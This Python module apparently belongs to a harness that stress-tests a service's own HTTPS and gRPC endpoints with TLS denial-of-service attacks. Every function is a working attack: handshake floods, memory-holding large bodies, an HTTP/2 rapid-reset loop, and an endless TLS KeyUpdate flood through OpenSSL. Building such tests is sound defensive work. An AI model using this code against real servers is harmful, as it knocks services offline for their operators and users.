"""Attacks on doors with TLS, by strangers: in its handshake, behind it, and through it. See attack.py.

Python's ssl can't update keys, so that attack calls OpenSSL itself."""
import ctypes
import ctypes.util
import itertools
import socket
import ssl
import struct

from attack import STRANGER, Ended, attack
from http_attacks import HEAD, LARGE, hold
from wire import HEADERS, END_HEADERS, PREFACE, RST_STREAM, SETTINGS, call_headers, frame

WRITTEN = 3  # SSL_ERROR_WANT_WRITE
REQUESTED = 1  # the other side must update its key, too
BATCH = 64


class Tls:
    """TLS over a Line, whose bytes it counts."""

    def __init__(self, line, protocol):
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols([protocol])
        self.line, self.came, self.goes = line, ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = context.wrap_bio(self.came, self.goes)

    def greet(self):
        while True:
            try:
                self.tls.do_handshake()
                self.line.send(self.goes.read())
                return self
            except ssl.SSLWantReadError:
                self.line.send(self.goes.read())
                self.came.write(self.line.some())
            except ssl.SSLError:
                self.line.over()

    def send(self, data):
        for at in range(0, len(data), 1 << 20):
            self.tls.write(data[at:at + (1 << 20)])
            self.line.send(self.goes.read())

    def look(self):
        self.line.look()


def hello(protocol):
    """A client's first bytes."""
    greeting = Tls(None, protocol)
    try:
        greeting.tls.do_handshake()
    except ssl.SSLWantReadError:
        return greeting.goes.read()


@attack("HTTPS", world="tls", ends=False)
def handshakes_without_end(attacker):
    """Whole ones, each with a signature of the server, and then nothing."""
    for address, protocol in ((attacker.front, "http/1.1"), (attacker.grpc, "h2")):
        line = attacker.connect(address, STRANGER)
        Tls(line, protocol).greet()
        line.close()


@attack("HTTPS", world="tls")
def handshakes_begun(attacker):
    """The server answers a hello with its certificate, and waits."""
    hold(attacker, hello("http/1.1"))


@attack("gRPC", "handshake_timeout", world="tls", threads=16)
def grpc_handshakes_begun(attacker):
    line = attacker.connect(attacker.grpc, STRANGER)
    line.send(hello("h2"))
    line.wait()


@attack("HTTPS", world="tls", ends=False, threads=16, large=True)
def large_bodies_over_tls(attacker):
    """Each but for its last byte, so that it waits whole in memory."""
    door = Tls(attacker.connect(attacker.front, STRANGER), "http/1.1").greet()
    door.send(HEAD.encode() + b"Content-Length: %d\r\n\r\n" % LARGE + b"x" * (LARGE - 1))
    door.line.wait()


@attack("gRPC", "resets", world="tls")
def rapid_reset_over_tls(attacker):
    door, headers = Tls(attacker.connect(attacker.grpc, STRANGER), "h2").greet(), call_headers("/baton.v1.Baton/Generate")
    door.send(PREFACE + frame(SETTINGS, 0, 0, b""))
    for first in itertools.count(1, 2 * BATCH):
        door.send(b"".join(frame(HEADERS, END_HEADERS, stream, headers) + frame(RST_STREAM, 0, stream, b"\0\0\0\x08") for stream in range(first, first + 2 * BATCH, 2)))
        door.look()


def openssl():
    """The library, with the types of the functions that are called."""
    library = ctypes.CDLL(ctypes.util.find_library("ssl") or "libssl.so.3")
    pointer, number = ctypes.c_void_p, ctypes.c_int
    for name, result, *arguments in (("TLS_client_method", pointer), ("SSL_CTX_new", pointer, pointer), ("SSL_CTX_free", None, pointer), ("SSL_new", pointer, pointer),
                                     ("SSL_free", None, pointer), ("SSL_set_fd", number, pointer, number), ("SSL_connect", number, pointer),
                                     ("SSL_set_alpn_protos", number, pointer, ctypes.c_char_p, ctypes.c_uint), ("SSL_key_update", number, pointer, number),
                                     ("SSL_do_handshake", number, pointer), ("SSL_get_error", number, pointer, number)):
        getattr(library, name).restype, getattr(library, name).argtypes = result, arguments
    return library


def update_keys(attacker, address, protocol):
    """KeyUpdates without end, each of which wants another of the server. A record of 27 bytes each."""
    library, line = openssl(), attacker.connect(address, STRANGER)
    line.socket.settimeout(None)
    for which in (socket.SO_SNDTIMEO, socket.SO_RCVTIMEO):
        line.socket.setsockopt(socket.SOL_SOCKET, which, struct.pack("ll", 0, 200000))
    context = library.SSL_CTX_new(library.TLS_client_method())
    tls = library.SSL_new(context)
    library.SSL_set_alpn_protos(tls, bytes([len(protocol)]) + protocol, len(protocol) + 1)
    library.SSL_set_fd(tls, line.socket.fileno())
    try:
        done = library.SSL_connect(tls)
        while done == 1 and not attacker.stop.is_set():
            library.SSL_key_update(tls, REQUESTED)
            done = library.SSL_do_handshake(tls)
            while done != 1 and library.SSL_get_error(tls, done) == WRITTEN and not attacker.stop.is_set():
                done = library.SSL_do_handshake(tls)
            with attacker.lock:
                attacker.sent += 27
    finally:
        library.SSL_free(tls)
        library.SSL_CTX_free(context)
    if attacker.stop.is_set():
        line.close()
        raise Ended
    line.over()


@attack("gRPC", "tls_messages", world="tls")
def key_updates(attacker):
    update_keys(attacker, attacker.grpc, b"h2")


@attack("HTTPS", world="tls")
def key_updates_over_https(attacker):
    update_keys(attacker, attacker.front, b"http/1.1")
